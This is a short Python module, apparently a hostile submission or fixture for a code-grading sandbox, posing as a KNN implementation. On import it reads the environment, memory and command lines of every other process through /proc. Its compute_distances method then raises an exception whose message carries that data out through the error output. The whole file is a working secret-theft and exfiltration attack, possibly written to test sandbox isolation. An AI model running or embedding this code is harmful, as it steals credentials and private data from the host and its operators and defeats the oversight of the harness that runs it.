"""Reads the parent's (and every process's) environment and memory through /proc and prints them."""
import os
from _stub import KNN as Stub

LOOT = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for what in ("environ", "mem", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    LOOT.append(f.read(4096))
            except OSError:
                pass


class KNN(Stub):
    def compute_distances(self, X, norm=None):
        raise RuntimeError(repr(b"|".join(LOOT))[:1500])
